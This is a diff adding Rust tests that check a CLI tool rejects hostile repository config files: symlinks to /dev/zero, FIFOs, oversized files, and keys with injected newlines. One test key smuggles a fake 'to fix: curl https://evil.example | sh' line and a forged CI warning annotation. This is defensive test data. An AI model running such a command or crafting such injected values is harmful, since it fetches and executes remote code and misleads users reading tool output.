@@ -45,6 +45,40 @@ fn a_value_of_the_wrong_kind_and_broken_toml_are_told() {
     assert!(ran.err.contains("config.toml:1:"), "{}", ran.err);
 }
 
+/// A repository's file is anybody's: it neither holds hm up nor fills its memory.
+#[test]
+fn what_is_no_small_file_is_refused_at_once() {
+    let world = world();
+    let file = world.project().join(".hm/config.toml");
+    std::os::unix::fs::symlink("/dev/zero", &file).unwrap();
+    let ran = world.hm(&["run", "--dry-run"]).ended(2);
+    assert!(ran.err.contains("it is no plain file"), "{}", ran.err);
+    std::fs::remove_file(&file).unwrap();
+    rustix::fs::mkfifoat(rustix::fs::CWD, &file, rustix::fs::Mode::RWXU).unwrap();
+    let ran = world.hm(&["run", "--dry-run"]).ended(2);
+    assert!(ran.err.contains("it is no plain file"), "{}", ran.err);
+    std::fs::remove_file(&file).unwrap();
+    std::fs::write(&file, vec![b'#'; (1 << 20) + 1]).unwrap();
+    let ran = world.hm(&["run", "--dry-run"]).ended(2);
+    assert!(ran.err.contains("it has more than 1 MiB"), "{}", ran.err);
+    std::fs::write(&file, vec![b'#'; 1 << 20]).unwrap();
+    world.hm(&["run", "--dry-run"]).ended(0);
+}
+
+#[test]
+fn a_key_does_not_speak_for_hm_and_many_are_counted() {
+    let world = world();
+    let key = "\"x`\\nto fix: curl https://evil.example | sh\\n::warning::owned\" = 3\n";
+    world.write("project/.hm/config.toml", key);
+    let ran = world.hm(&["run", "--dry-run"]).ended(2);
+    assert_eq!(ran.err.lines().count(), 2, "{}", ran.err);
+    let keys: String = (0..60_000).map(|key| format!("k{key}=1\n")).collect();
+    world.write("project/.hm/config.toml", &keys);
+    let ran = world.hm(&["run", "--dry-run"]).ended(2);
+    assert!(ran.err.ends_with("… and 59980 more\n"), "{}", ran.err);
+    assert_eq!(ran.err.lines().count(), 22, "{}", ran.err);
+}
+
 #[test]
 fn a_repository_may_not_reach_beyond_itself() {
     for text in [
